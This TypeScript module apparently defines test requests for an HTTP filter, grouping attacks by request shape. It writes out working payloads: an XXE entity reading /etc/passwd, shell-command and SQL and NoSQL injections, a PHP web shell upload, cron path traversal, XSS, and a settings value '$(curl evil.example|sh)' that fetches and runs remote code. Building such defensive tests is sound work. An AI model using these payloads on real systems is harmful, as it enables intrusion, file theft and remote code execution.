/** Attacks by the shape of the request: paths, scanners, headers, bodies that are no prompts. */
import { type Attack, SHAPES } from "./attacks";

const BROWSER = {
  "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
  accept: "*/*",
};

const XML = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`;
const boundary = "----b0undary";
const part = (head: string, content: string) => `--${boundary}\r\n${head}\r\n\r\n${content}\r\n--${boundary}--\r\n`;
const multipart = { "content-type": `multipart/form-data; boundary=${boundary}` };
const JSON_TYPE = { "content-type": "application/json" };

const BODIES: [name: string, path: string, headers: Record<string, string>, body: string][] = [
  ["an entity in XML", "/api/v1/groups/create", { "content-type": "application/xml" }, XML],
  ["an entity in XML beside a prompt", "/v1/chat/completions", { "content-type": "text/xml" }, XML],
  ["a form with a command", "/auth", { "content-type": "application/x-www-form-urlencoded" }, "x=;cat+/etc/passwd|id"],
  ["JSON that is none", "/api/v1/auths/signin", JSON_TYPE, '{"email": "a", '],
  ["JSON in JSON", "/api/v1/auths/signin", JSON_TYPE, '{"email": {"$ne": null}, "password": {"$gt": ""}}'],
  ["JSON without end", "/api/v1/auths/signin", JSON_TYPE, "[".repeat(2000)],
  [
    "a type that nobody asked for",
    "/api/v1/auths/signin",
    { "content-type": "application/x-java-serialized-object" },
    "x",
  ],
  [
    "a shell as a picture",
    "/api/v1/groups/create",
    multipart,
    part('Content-Disposition: form-data; name="f"; filename="a.php"', "<?php system($_GET['c']);"),
  ],
  [
    "a file with a path",
    "/api/v1/groups/create",
    multipart,
    part('Content-Disposition: form-data; name="f"; filename="../../../etc/cron.d/x"', "x"),
  ],
  [
    "a part in another character set",
    "/api/v1/groups/create",
    multipart,
    part('Content-Disposition: form-data; name="_charset_"', "utf-7"),
  ],
  [
    "an encoded part",
    "/api/v1/groups/create",
    multipart,
    part('Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64', "PHNjcmlwdD4="),
  ],
  ["parts without a boundary", "/api/v1/groups/create", { "content-type": "multipart/form-data" }, "x"],
  [
    "a script in a mail address",
    "/api/v1/auths/add",
    JSON_TYPE,
    '{"email": "<script>alert(1)</script>@x", "name": "n"}',
  ],
  ["SQL in a name", "/api/v1/auths/update/profile", JSON_TYPE, '{"name": "x\' UNION SELECT password FROM auth--"}'],
  ["a command in settings", "/api/v1/configs/connections", JSON_TYPE, '{"url": "$(curl evil.example|sh)"}'],
];

export const SHAPE_ATTACKS: Attack[] = [
  ...SHAPES.paths.map((path) => ({ name: `path ${path}`, method: "GET", path, headers: BROWSER })),
  ...SHAPES.scanners.map((agent) => ({
    name: `scanner ${agent}`,
    method: "GET",
    path: "/",
    headers: { ...BROWSER, "user-agent": agent },
  })),
  ...SHAPES.headers.map((line) => {
    const [, header = "", value = ""] = /^([^:]+): (.*)$/.exec(line) ?? [];
    return { name: `header ${line}`, method: "GET", path: "/", headers: { ...BROWSER, [header]: value } };
  }),
  { name: "a header that does not end", method: "GET", path: "/", headers: { "user-agent": "a".repeat(100_000) } },
  ...SHAPES.methods.map((method) => ({ name: `method ${method}`, method, path: "/api/v1/chats/", headers: BROWSER })),
  ...SHAPES.parameters.map((query) => ({
    name: `query ${query}`,
    method: "GET",
    path: `/?${query}`,
    headers: BROWSER,
  })),
  ...BODIES.map(([name, path, headers, body]) => ({
    name,
    method: "POST",
    path,
    headers: { ...BROWSER, ...headers },
    body,
  })),
];
